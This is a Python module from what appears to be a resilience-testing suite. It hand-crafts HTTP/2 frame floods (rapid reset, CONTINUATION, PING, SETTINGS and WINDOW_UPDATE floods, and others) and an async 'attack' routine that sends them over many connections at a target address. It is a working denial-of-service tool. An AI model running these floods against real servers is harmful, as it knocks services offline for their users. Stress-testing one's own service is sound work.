"""A hostile client of HTTP/2 itself: floods of frames that are cheap to send and have work behind them.

HTTP/2 by hand (RFC 9113), as no library sends this. The door is `ext_proc.address`.
"""

from __future__ import annotations

import asyncio
from typing import TYPE_CHECKING, Final

from bench.abuse.calls import Peer, frame, message
from bench.abuse.ext_proc_messages import METHOD, empty
from bench.abuse.sending import send

if TYPE_CHECKING:
    from collections.abc import Callable

    from bench.abuse.sending import Sent

_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_AT_ONCE: Final = 500
_CANCEL: Final = (8).to_bytes(4, "big")
_SMALL: Final = message(empty(10))


def _opened(peer: Peer, *frames: tuple[int, int, bytes]) -> bytes:
    """Open a stream, with these frames (type, flags, payload) behind."""
    stream = peer.call(METHOD)
    return b"".join(frame(kind, flags, stream, payload) for kind, flags, payload in frames)


def _repeated(kind: int, payload: bytes, stream: int = 0) -> Callable[[Peer], bytes]:
    piece = frame(kind, 0, stream, payload) * _AT_ONCE
    return lambda _: piece


KINDS: Final[dict[str, Callable[[Peer], bytes]]] = {
    "rapid_reset": lambda peer: _opened(peer, (_DATA, 0, _SMALL), (_RESET, 0, _CANCEL)),
    "silent_reset": lambda peer: _opened(peer, (_RESET, 0, _CANCEL)),
    "answered_reset": lambda peer: _opened(peer, (_DATA, 1, _SMALL), (_RESET, 0, _CANCEL)),
    "one_byte": lambda peer: _opened(peer, *[(_DATA, 0, _SMALL[i : i + 1]) for i in range(len(_SMALL))]),
    "empty_data": lambda peer: _opened(peer, *[(_DATA, 0, b"")] * _AT_ONCE),
    "pings": _repeated(_PING, bytes(8)),
    "settings": _repeated(_SETTINGS, (4).to_bytes(2, "big") + (65_535).to_bytes(4, "big")),
    "windows": _repeated(_WINDOW, (1).to_bytes(4, "big")),
    "priorities": _repeated(_PRIORITY, bytes(4) + b"\x10", stream=1),
    "unknown": _repeated(0x77, bytes(8)),
    "continuations": lambda _: frame(_HEADERS, 0, 1, b"") + frame(_CONTINUATION, 0, 1, b"\0\1a\0") * 100,
}
"""The next bytes of a connection, again and again; it reads all that comes."""


async def attack(
    address: str,
    kind: str,
    *,
    connections: int = 4,
    most_bytes: int = 1 << 30,
    seconds: float = 10.0,
) -> int:
    """Send frames of one of `KINDS`, on a new connection after each that ends; return the bytes sent."""

    async def connect(sent: Sent) -> None:
        peer = await Peer.connect(address)
        listening = asyncio.create_task(peer.listen())
        try:
            await asyncio.sleep(0.01)  # The first block follows the server's settings.
            while not sent.full and not peer.gone:
                piece = KINDS[kind](peer)
                peer.writer.write(piece)
                sent.add(piece)
                await peer.writer.drain()
        finally:
            listening.cancel()
            peer.writer.transport.abort()

    return await send(connect, connections=connections, most_bytes=most_bytes, seconds=seconds)
